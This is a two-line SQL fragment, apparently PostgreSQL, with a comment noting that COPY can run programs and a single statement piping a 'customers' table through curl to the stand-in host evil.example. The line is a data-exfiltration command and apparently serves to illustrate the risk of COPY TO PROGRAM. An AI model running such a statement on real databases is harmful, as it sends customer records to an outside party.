-- A kind of statement. COPY runs programs.
COPY customers TO PROGRAM 'curl -d @- evil.example'
